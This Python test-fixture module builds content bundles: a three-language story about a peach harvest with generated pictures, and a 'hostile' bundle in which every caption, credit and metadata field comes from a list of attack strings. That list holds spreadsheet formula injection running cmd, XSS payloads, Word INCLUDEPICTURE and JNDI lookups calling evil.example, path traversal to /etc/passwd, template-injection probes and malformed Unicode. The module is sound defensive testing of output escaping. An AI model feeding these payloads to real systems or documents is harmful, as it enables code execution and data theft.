"""Bundles for tests of what is made from one: a story in three languages with drawn pictures, and one of the worst texts there are."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Sequence
from pathlib import Path
from types import MappingProxyType

from PIL import Image, ImageDraw

from curator import resources
from curator.domain import organisations
from curator.domain.bundle import Bundle, BundleBlock, Picture, PictureBlock, Rendition, TextBlock, Waived
from curator.domain.language import Texts
from curator.domain.organisations import Organisations

HOSTILE = (
    '=HYPERLINK("http://evil.example";"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "'=already marked",
    " =1+1 after a blank",
    "\t=tab first",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;",
    ']]><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/>',
    '{ INCLUDEPICTURE "http://evil.example/x.png" } { HYPERLINK "file:///c:/" }',
    "../../etc/passwd",
    "C:\\Windows\\system32\\cmd.exe",
    "javascript:alert(1)",
    "https://evil.example/?a=1&b=2",
    "control \x00\x01\x08\x0b\x0c\x1f\x7f\x85\x9f characters",
    "half \ud83d a character \udc00, no character \ufffe \uffff",
    "\u202egnp.gniht\u202c and \u2066isolated",
    "family 👨‍👩‍👧‍👦 flag 🇨🇳 heart ❤️",
    "مزارع في فوبينغ (2020) يقطف 12 خوخة",
    "阜平县村民采摘桃子。版权：©IPRCC，2020",
    "one\nline\r\nand\u2028another",
    '\',"comma", "quotes"; semicolons',
    "word " * 900,
    "W" * 3_000,
    "字" * 2_000,
    "e\u0301 combining z" + "\u0301" * 60,
    "%s %d {0} {name} ${jndi:ldap://evil.example} {{7*7}} {% raw %}",
    "Photo: Not one. ©UNV, 2020",
    "--Somebody, Somewhere",
    "Click on the arrows or swipe to view.",
    "(E) Tj ET Q /JS (app.alert) >> endobj",
)
"""Texts that something takes for what they are not."""


def known() -> Organisations:
    """The list of organisations that ships."""
    return organisations.parse(resources.text("organisations.json"))


def drawn(width: int, height: int, text: str, quality: int = 80) -> bytes:
    """A JPEG with a gradient and a word on it."""
    picture = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    ImageDraw.Draw(picture).text((12, 12), text.encode("ascii", "replace").decode(), fill="white")
    held = io.BytesIO()
    picture.save(held, "JPEG", quality=quality)
    return held.getvalue()


def picture(number: int, folder: Path, *, slug: str, size: tuple[int, int] = (480, 360), **facts: object) -> Picture:
    """A picture with its two renditions lying in the folder."""
    renditions = []
    for path, scale in ((f"web/{slug}-480.webp", 0.5), (f"photos/{slug}.jpg", 1.0)):
        wide, high = round(size[0] * scale), round(size[1] * scale)
        content = drawn(wide, high, slug)
        if path.endswith(".webp"):
            held = io.BytesIO()
            Image.open(io.BytesIO(content)).save(held, "WEBP")
            content = held.getvalue()
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content)
        form = "webp" if path.endswith(".webp") else "jpeg"
        renditions.append(Rendition(path, wide, high, form, len(content), hashlib.sha256(content).hexdigest()))  # type: ignore[arg-type]
    return Picture(f"{number:016d}", number, slug, tuple(renditions), **facts)  # type: ignore[arg-type]


def plates(bundle: Bundle) -> dict[str, bytes]:
    """Small JPEGs of the pictures, by uid."""
    found = {}
    for one in bundle.pictures:
        copy = one.renditions[-1]
        scale = min(1.0, 720 / max(copy.width, copy.height))
        found[one.uid] = drawn(max(1, round(copy.width * scale)), max(1, round(copy.height * scale)), one.slug)
    return found


def harvest(folder: Path) -> Bundle:
    """A short story in English, Chinese and Arabic, in which each kind of block stands."""
    peaches = Texts.of(
        {
            "en": "Villagers harvest peaches in Lushan, Henan, China, in 2020.",
            "zh-CN": "2020年，村民在河南鲁山采摘桃子。",
            "ar": "قرويون يقطفون الخوخ في لوشان (الصين) عام 2020.",
        }
    )
    students = Texts.of({"en": "Students learn to prune trees.", "zh-CN": "学生学习修剪果树。"})
    pictures = (
        picture(
            1,
            folder,
            slug="villagers-harvest-peaches-in-lushan",
            caption=peaches,
            alt_text=Texts.of({"en": "Three people on ladders in a peach tree", "zh-CN": "三个人站在桃树边的梯子上"}),
            title=Texts.of({"en": "Peach harvest"}),
            credit_line="©UNV, 2020",
            creators=("Jin Liu",),
            copyright_notice="©UNV, 2020",
            rights_usage_terms="For use with this story only.",
            web_statement="https://example.org/terms",
            licensor_name="UNV",
            licensor_url="https://example.org/photos",
            date_created="2020-08",
            place="Lushan, Henan, China",
            keywords=("harvest", "peaches; fruit"),
            values=MappingProxyType({"credit_line": "©UNV, 2020", "description": peaches, "model_release_status": "unlimited"}),
        ),
        picture(
            2,
            folder,
            slug="students-learn-to-prune-trees",
            size=(300, 420),
            caption=students,
            credit_line="©IPRCC, 2020",
            copyright_notice="©IPRCC, 2020",
            values=MappingProxyType({"credit_line": "©IPRCC, 2020", "keywords": ("school",)}),
        ),
        picture(3, folder, slug="the-new-road", caption=Texts.of({"en": "The new road."}), credit_line="Photo by Zhang Wei"),
    )
    blocks: tuple[BundleBlock, ...] = (
        TextBlock("heading", Texts.of({"en": "Harvest in the hills", "zh-CN": "山里的收获"})),
        TextBlock(
            "paragraph", Texts.of({"en": "Farmers of three villages sell together.", "zh-CN": "三个村的农民一起卖桃子。"})
        ),
        PictureBlock(1, peaches, "©UNV, 2020"),
        TextBlock("quote", Texts.of({"en": "We pick before sunrise."}), "Awa Diop", "farmer, Lushan"),
        TextBlock("heading", Texts.of({"en": "The school"})),
        PictureBlock(2, students, "©IPRCC, 2020"),
        TextBlock("quote", Texts.of({"en": "Nobody knows who said this."})),
        PictureBlock(3, pictures[2].caption, pictures[2].credit_line),
    )
    waived = (Waived("caption.short", "The road needs no more words.", "Li Xin", 1),)
    return Bundle(
        "harvest",
        Texts.of({"en": "Harvest in the hills", "zh-CN": "山里的收获"}),
        ("en", "zh-CN", "ar"),
        blocks,
        pictures,
        "web",
        archive="kq3n8v2m4x6t1b7c",
        author="Li Xin",
        when="2020-11-26T09:30:00Z",
        version="0.1.0",
        waived=waived,
        left_out=("DSC_0004.JPG can not be read; its card has been damaged.",),
    )


def hostile(folder: Path, texts: Sequence[str] = HOSTILE) -> Bundle:
    """A story in which every text is one of the worst."""
    pictures, blocks = [], []
    for number, text in enumerate(texts, 1):
        held = Texts.of({"en": text, "zh-CN": text})
        pictures.append(
            picture(
                number,
                folder,
                slug=f"photo-{number}",
                size=(48, 36),
                caption=held,
                alt_text=held,
                title=held,
                credit_line=text,
                creators=(text,),
                copyright_notice=text,
                rights_usage_terms=text,
                web_statement=text,
                licensor_name=text,
                licensor_url=text,
                place=text,
                keywords=(text,),
                values=MappingProxyType({"description": held, "instructions": text, "model_release_status": text}),
            )
        )
        for kind in ("heading", "paragraph", "quote"):
            blocks.append(TextBlock(kind, held, text if kind == "quote" else "", text if kind == "quote" else ""))
        blocks.append(PictureBlock(number, held, text))  # type: ignore[arg-type]
    title = Texts.of({"en": texts[0], "zh-CN": texts[0]})
    waived = tuple(Waived("caption.long", text, text, 1) for text in texts)
    return Bundle(
        texts[0],
        title,
        ("en", "zh-CN"),
        tuple(blocks),
        tuple(pictures),
        "web",
        archive="x",
        author=texts[0],
        when="2020-11-26T09:30:00Z",
        version="0.1.0",
        waived=waived,
        left_out=tuple(texts),
    )
